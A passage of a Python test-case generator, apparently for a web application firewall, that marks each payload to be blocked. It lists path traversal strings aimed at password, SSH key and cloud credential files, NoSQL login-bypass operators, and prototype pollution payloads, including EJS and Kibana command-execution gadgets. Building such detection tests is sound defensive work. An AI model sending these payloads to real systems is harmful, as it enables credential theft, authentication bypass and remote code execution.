    ("q", "/api/v1/themes|name", "....//....//....//....//etc/passwd", NUCLEI + " generic-linux-lfi (strip-once bypass)"),
    ("q", "/api/v1/themes|name", "..././..././..././etc/passwd", "strip-once bypass"),
    ("q", "/index.php|page", "../../../../etc/passwd\x00.html", "null byte"),
    ("qr", "/index.php|page", "../../../../etc/passwd%00.jpg", "null byte"),
    ("q", "/index.php|page", "php://filter/convert.base64-encode/resource=../config.php", "PHP wrapper LFI"),
    ("q", "/api/v1/fetch|src", "file:///etc/passwd", "file scheme"),
    ("q", "/api/v1/files|name", "/proc/self/environ", "absolute sensitive file"),
    ("q", "/api/v1/files|name", "../../../../proc/self/cmdline", "proc"),
    ("j", "/api/v1/avatars|path", "../../../../../../root/.ssh/id_rsa", "JSON field"),
    ("j", "/api/v1/reports/render|layout", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "k8s SA token"),
    ("j", "/api/v1/attachments|files[].path", "../../../.aws/credentials", "nested array"),
    ("f", "/download.php|f", "../../../../etc/passwd", "form"),
    ("c", "/app|template", "../../../../etc/passwd", "cookie"),
    ("h", "/api/v1/i18n|Accept-Language", "../../../../../../etc/passwd", "header LFI (locale loader)"),
    ("h", "/api/v1/static|X-Original-URL", "/../../../../etc/passwd", "header override"),
    ("mf", "/api/v1/upload|file", "../../../../../var/www/html/shell.php", "multipart zip-slip filename"),
    ("mf", "/api/v1/upload|archive", "..\\..\\..\\..\\inetpub\\wwwroot\\cmd.aspx", "multipart filename windows"),
    ("m", "/api/v1/import|source_path", "../../../../etc/shadow", "multipart field"),
    ("qr", "/api/v1/files|name", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "single URL encoding"),
    ("qr", "/api/v1/files|name", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double URL encoding"),
    ("qr", "/api/v1/files|name", "..%u2215..%u2215..%u2215etc%u2215passwd", "unicode division slash"),
    ("q", "/api/v1/files|name", "..／..／..／etc／passwd", "fullwidth solidus"),
    ("p", "/api/v1/blobs/{}", "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "encoded slash in path segment"),
    ("q", "/api/v1/files|name", "/var/www/../../etc/passwd", "absolute with traversal"),
    ("q", "/api/v1/files|name", "....\\\\....\\\\....\\\\windows\\\\win.ini", "doubled backslash strip bypass"),
]

NOSQL = [
    # cr0hn/nosqlinjection_wordlists mongodb_nosqli.txt + common operator injection
    ("jr", "/api/v1/auth/login", '{"username":"admin","password":{"$ne":null}}', "operator injection"),
    ("jr", "/api/v1/auth/login", '{"username":{"$gt":""},"password":{"$gt":""}}', NOSQLWL + " {$gt: ''}"),
    ("jr", "/api/v1/auth/login", '{"username":{"$regex":"^adm"},"password":{"$ne":"x"}}', "regex enumeration"),
    ("jr", "/api/v1/users/find", '{"filter":{"$where":"sleep(5000) || true"}}', NOSQLWL + " $where sleep"),
    ("jr", "/api/v1/users/find", '{"filter":{"$where":"this.password.match(/.*/)"}}', NOSQLWL),
    ("jr", "/api/v1/auth/login", '{"username":"admin","password":{"$nin":["a","b"]}}', "$nin"),
    ("jr", "/api/v1/auth/login", '{"username":"admin","password":{"$exists":true}}', "$exists"),
    ("jr", "/api/v1/products/search", '{"$or":[{"owner":"me"},{"owner":{"$ne":"me"}}]}', "$or bypass"),
    ("jr", "/api/v1/auth/login", '{"username":"admin","password":{"\\u0024ne":""}}', "JSON unicode escaped $"),
    ("jr", "/api/v1/orders", '{"customer":{"$expr":{"$gt":[{"$strLenCP":"$password"},0]}}}', "$expr"),
    ("jr", "/api/v1/posts/query", '{"where":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}', "$function (MongoDB 4.4+)"),
    ("jr", "/api/v1/reset", '{"email":"victim@example.com","token":{"$regex":".*"}}', "token bypass"),
    ("jr", "/api/v1/auth/login", '[{"username":{"$ne":1},"password":{"$ne":1}}]', "array body"),
    ("q", "/api/v1/users|username[$ne]", "toto", "qs bracket operator"),
    ("q", "/api/v1/login|password[$regex]", ".*", "qs bracket regex"),
    ("q", "/api/v1/login|user[$gt]", "", "qs bracket $gt empty"),
    ("qr", "/api/v1/login|password%5B%24ne%5D", "1", "encoded brackets"),
    ("qr", "/api/v1/users|username%5B%24regex%5D", "%5Ea.*", "encoded regex"),
    ("f", "/login|password[$ne]", "wrong", NOSQLWL + " [$ne]=1 (form)"),
    ("f", "/login|username[$in][]", "admin", "form $in array"),
    ("f", "/login|password[$exists]", "true", "form $exists"),
    ("q", "/api/v1/search|q", "'; return '' == '", "$where JS string injection"),
    ("q", "/api/v1/search|name", "' && this.password.match(/.*/)//\x00", NOSQLWL),
    ("q", "/api/v1/search|name", "';sleep(5000);", NOSQLWL),
    ("q", "/api/v1/search|name", "';it=new Date();do{pt=new Date();}while(pt-it<5000);", NOSQLWL),
    ("jr", "/api/v1/items/aggregate", '{"pipeline":[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}},{"$project":{"u.password":1}}]}', "aggregation $lookup injection"),
    ("jr", "/api/v1/accounts/update", '{"id":"64b7f","set":{"$set":{"role":"admin"}}}', "update operator injection"),
    ("c", "/profile|session", 'j:{"$ne":null}', "cookie-parser JSON cookie operator"),
    ("jr", "/api/v1/graphql", '{"query":"query($f: JSON){ users(filter: $f){ id email } }","variables":{"f":{"email":{"$regex":"@corp\\\\.com$"},"role":{"$ne":"user"}}}}', "GraphQL JSON scalar passthrough"),
    ("jr", "/api/v1/auth/login", '{"login":{"$in":["admin","root","administrator"]},"pass":{"$regex":"^.{0,}$"}}', "$in + $regex"),
]

PROTO = [
    # BlackFan client-side-prototype-pollution
    ("qr", "/|__proto__[test]", "test", BLACKFAN),
    ("qr", "/app|__proto__.test", "test", BLACKFAN),
    ("qr", "/app|constructor.prototype.test", "test", BLACKFAN),
    ("qr", "/app|constructor[prototype][test]", "test", BLACKFAN),
    ("qr", "/watch|__proto__[innerHTML]", "%3Cimg/src/onerror%3dalert(1)%3E", BLACKFAN + " Wistia gadget"),
    ("qr", "/page|__proto__[src][]", "data:,alert(1)//", BLACKFAN + " jQuery getScript gadget"),
    ("qr", "/form|__proto__[ALLOWED_ATTR][0]", "onerror&__proto__[ALLOWED_ATTR][1]=src", BLACKFAN + " DOMPurify gadget"),
    ("qr", "/search|__proto__[sourceURL]", "%E2%80%A8%E2%80%A9alert(1)", BLACKFAN + " lodash template gadget"),
    ("qr", "/app|__proto__%5Bisadmin%5D", "true", "encoded brackets"),
    ("qr", "/app|__pro__proto__to__[polluted]", "1", "strip-once bypass"),
    # server-side: Express body-parser / lodash.merge / qs
    ("jr", "/api/v1/users/me/settings", '{"theme":"dark","__proto__":{"isAdmin":true}}', SSPP + " lodash.merge"),
    ("jr", "/api/v1/users/me/settings", '{"constructor":{"prototype":{"isAdmin":true}}}', SSPP + " constructor.prototype"),
    ("jr", "/api/v1/profile", '{"name":"x","__proto__":{"json spaces":10}}', SSPP + " Express json spaces detection"),
    ("jr", "/api/v1/profile", '{"__proto__":{"status":510}}', SSPP + " status code detection"),
    ("jr", "/api/v1/render", '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}', SSPP + " EJS RCE gadget"),
    ("jr", "/api/v1/jobs", '{"__proto__":{"shell":"node","NODE_OPTIONS":"--require /proc/self/environ","env":{"A":"console.log(1)//"}}}', SSPP + " child_process spawn gadget"),
    ("jr", "/api/v1/config", '{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":"yes"}}', "JSON unicode-escaped __proto__"),
    ("jr", "/api/v1/config/patch", '{"path":"__proto__.isAdmin","value":true}', "set-value / dot-path"),
    ("jr", "/api/v1/config/patch", '{"op":"replace","path":"/__proto__/polluted","value":"x"}', "JSON-Patch path"),
    ("jr", "/api/v1/merge", '{"a":[{"b":{"__proto__":{"admin":1}}}]}', "nested in array"),
    ("jr", "/api/v1/handlebars", '{"__proto__":{"pendingContent":"<script>alert(1)</script>"}}', SSPP + " Handlebars gadget"),
    ("f", "/settings|__proto__[admin]", "1", "qs form body"),
    ("f", "/settings|constructor[prototype][admin]", "1", "qs form body constructor"),
    ("m", "/api/v1/upload|__proto__[uploadDir]", "/tmp/x", "multipart field name (formidable/multer)"),
    ("jr", "/api/v1/kibana/timelion", '{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'require(\\"child_process\\").exec(\\"id\\")//\')"],"time":{"from":"now-15m","to":"now"}}', "Kibana CVE-2019-7609"),
]


def _set(obj, dotted, value):
    parts = dotted.split(".")
    cur = obj
    for p in parts[:-1]:
        if p.endswith("[]"):
            k = p[:-2]
            cur[k] = [{"qty": 1}]
            cur = cur[k][0]
        else:
            cur = cur.setdefault(p, {})
    last = parts[-1]
    if last.endswith("[]"):
        cur[last[:-2]] = ["ok", value]
    else:
        cur[last] = value


def build_one(cid, fam, mode, target, payload, src):
    if mode in ("q", "qr"):
        path, param = target.split("|")
        if mode == "q":
            p = query(path, [(param, payload)])
        else:
            p = path + ("&" if "?" in path else "?") + f"{param}={payload}"
        return case(cid, fam, "block", "GET", p, where="query", source=src)
    if mode == "j":
        path, field = target.split("|")
        obj = {"request_id": "req_8842", "locale": "en-US"}
        _set(obj, field, payload)
        return case(cid, fam, "block", "POST", path, JSON_CT, jbody(obj), "body", src)
    if mode == "jr":
        json.loads(payload)
        return case(cid, fam, "block", "POST", target, JSON_CT, payload, "body", src)
    if mode == "f":
        path, field = target.split("|")
        return case(cid, fam, "block", "POST", path, FORM_CT, form([("csrf", "a8f3c1"), (field, payload)]), "body", src)
    if mode == "h":
        path, hname = target.split("|")
        where = "header"
        return case(cid, fam, "block", "GET", path, {hname: payload}, "", where, src)
    if mode == "c":
        path, cname = target.split("|")
        return case(cid, fam, "block", "GET", path, {"Cookie": f"sid=9f8e7d6c; {cname}={payload}"}, "", "cookie", src)
    if mode == "p":
        return case(cid, fam, "block", "GET", target.replace("{}", payload), None, "", "path", src)
    if mode in ("m", "mf"):
        path, field = target.split("|")
        if mode == "m":
            body = multipart([("folder", "inbox"), (field, payload)])
        else:
            body = multipart([("folder", "inbox"), (field, "hello", payload, "application/octet-stream")])
        return case(cid, fam, "block", "POST", path, {"Content-Type": MP_CT}, body, "multipart", src)
    raise ValueError(mode)


def build():
    out = []
    raws = []  # (family, id, payload) for wrapped twins
    for fam, lst, pfx in (("sqli", SQLI, "sqli"), ("xss", XSS, "xss"), ("cmdi", CMDI, "cmdi"),
                          ("traversal", TRAVERSAL, "trav"), ("nosql", NOSQL, "nosql"), ("proto", PROTO, "proto")):
        for i, (mode, target, payload, src) in enumerate(lst, 1):
            cid = f"h22-{pfx}-{i:03d}"
            out.append(build_one(cid, fam, mode, target, payload, src))
            raws.append((fam, cid, mode, target, payload))
    return out, raws
